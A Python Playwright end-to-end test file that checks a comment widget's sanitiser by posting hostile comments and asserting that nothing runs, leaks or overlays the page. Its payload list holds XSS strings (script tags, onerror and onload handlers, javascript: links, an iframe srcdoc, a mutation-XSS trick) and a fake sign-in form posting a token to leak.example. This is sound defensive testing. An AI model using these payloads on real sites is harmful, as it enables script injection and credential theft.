"""What anybody writes is text with a little form: in a real browser it runs nothing, asks nobody, covers nothing."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

import pytest
from playwright.async_api import Page

from tests.e2e.conftest import World
from tests.e2e.reading import Noticed, read, settle, watched
from widget_server.markup.markdown import ELEMENTS

pytestmark = pytest.mark.asyncio(loop_scope="session")

ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
EACH_PAGE = 45
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[a](javascript:alert(1)) <a href='java\tscript:alert(1)'>b</a>",
    "<form action=http://leak.example/><input name=token><button>Sign in</button></form>",
    "<p id=compose class=transom style='position:fixed;inset:0' part=form data-reply>over everything</p>",
    "</textarea></template></div><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
]
INSIDE = """() => {
  const found = [];
  for (const root of [document, document.querySelector('transom-comments')?.shadowRoot]) {
    for (const text of root?.querySelectorAll('[part=text]') ?? []) {
      for (const it of text.querySelectorAll('*')) {
        const names = it.getAttributeNames();
        found.push([it.localName, it.namespaceURI, names, it.getAttribute('href')]);
      }
    }
    for (const it of root?.querySelectorAll('[part=author]') ?? []) {
      it.childElementCount && found.push(['name', it.innerHTML, [], null]);
    }
    const foreign = 'script, iframe, object, embed, link[href*=leak], [onerror], [onload]';
    for (const it of root?.querySelectorAll(foreign) ?? []) {
      it.matches('head script') || found.push(['outside', it.outerHTML, [], null]);
    }
  }
  return found;
}"""


async def test_hostile_words_run_nothing(world: World, page: Page) -> None:
    await hear_and_see_nothing(world, page, PAYLOADS)


async def test_no_known_way_past_a_sanitiser_works(world: World, page: Page, corpora: Path) -> None:
    cases = json.loads((corpora / "dompurify" / "expect.json").read_text(encoding="utf-8"))

    assert len(cases) > 200
    await hear_and_see_nothing(world, page, [case["payload"] for case in cases])


async def hear_and_see_nothing(world: World, page: Page, payloads: Sequence[str]) -> None:
    """Read payloads that were posted as texts, names and titles, with and without the widgets' script."""
    noticed = await watched(page)
    for start in range(0, len(payloads), EACH_PAGE):
        path = f"/page{start}"
        for payload in payloads[start : start + EACH_PAGE]:
            said = {"text": f"x {payload}", "name": f"M {payload}"[:60], "title": f"T {payload}"[:200]}
            world.act("Mallory", "comment", path, **said)
            world.tokens.clear()
        await read(page, world.page(path=path))
        await see_only_what_is_allowed(page, noticed)
        await page.goto(f"{world.server}/v1/blog/thread?subject={world.key(path)}&format=page")
        await see_only_what_is_allowed(page, noticed)


async def see_only_what_is_allowed(page: Page, noticed: Noticed) -> None:
    """Whatever stands on a page is made of the few elements and attributes that texts may have."""
    for link in await page.locator("[part=text] a").all():
        await link.hover()
    await settle(page)

    for name, namespace, attributes, address in await page.evaluate(INSIDE):
        assert name in ELEMENTS, (name, namespace)
        assert namespace == "http://www.w3.org/1999/xhtml"
        assert set(attributes) <= ATTRIBUTES.get(name, set())
        assert address is None or address.startswith(("http://", "https://", "mailto:"))
    assert noticed.dialogs == []
    assert {host.partition(":")[0] for host in noticed.hosts} == {"127.0.0.1"}
    assert await page.locator("article").count() > 0
